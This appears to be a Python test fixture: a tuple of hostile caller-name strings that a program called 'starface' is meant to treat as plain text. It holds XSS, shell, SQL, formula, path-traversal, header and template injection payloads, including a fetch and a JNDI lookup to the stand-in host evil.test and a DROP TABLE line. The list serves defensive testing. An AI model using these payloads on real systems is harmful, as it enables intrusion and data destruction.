# What a caller may be called. None of it may become more than a name.
HOSTILE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "</title><script>fetch('https://evil.test')</script>", "<b>Bold</b> & Co", "&lt;x&gt;",
    "$(touch /tmp/starface-pwned)", "`touch /tmp/starface-pwned`", "; touch /tmp/starface-pwned",
    "| touch /tmp/starface-pwned", "&& touch /tmp/starface-pwned", "|| touch /tmp/starface-pwned",
    "> /tmp/starface-pwned", "\ntouch /tmp/starface-pwned\n", "'; touch /tmp/starface-pwned; '",
    "\"; touch /tmp/starface-pwned; \"", "${IFS}touch${IFS}/tmp/starface-pwned", "$HOME", "%PATH%",
    "^&calc.exe", "& calc.exe", "| calc", "\" & calc & \"", "--help", "-rf /", "--exec=calc",
    "-c import os", "@/etc/passwd", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd",
    "https://evil.test/", "//evil.test/", "javascript:alert(1)", "data:text/html,<script>",
    "file:///etc/passwd", "../../etc/passwd", "..\\..\\windows\\system32", "a/b?c=d&e=f#g",
    "x@evil.test", "evil.test\\@good.test", "%00", "%0d%0aX-Header: 1", "\r\nX-Header: 1\r\n\r\n",
    "a\x00b", "\x1b[2J\x1b]0;owned\x07", "\x9b31m", "a\u202egnp.exe", "\u2066a\u2069", "a\u2028b",
    "\ufeffa", "e\u0301\u0301\u0301", "%s%s%s%n", "{0.__class__}", "{user.token}", "{id}",
    "%(name)s", "{{7*7}}", "${jndi:ldap://evil.test/a}", "A" * 5000, "' OR '1'='1",
    "'); DROP TABLE contacts;--",
)  # fmt: skip
